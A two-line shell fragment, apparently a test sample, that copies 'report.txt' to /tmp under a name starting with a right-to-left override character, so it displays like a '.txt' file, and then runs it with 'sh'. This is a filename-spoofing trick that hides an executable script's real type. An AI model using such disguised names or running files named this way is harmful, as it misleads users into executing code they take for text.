cp report.txt /tmp/‮txt.hs
sh /tmp/‮txt.hs
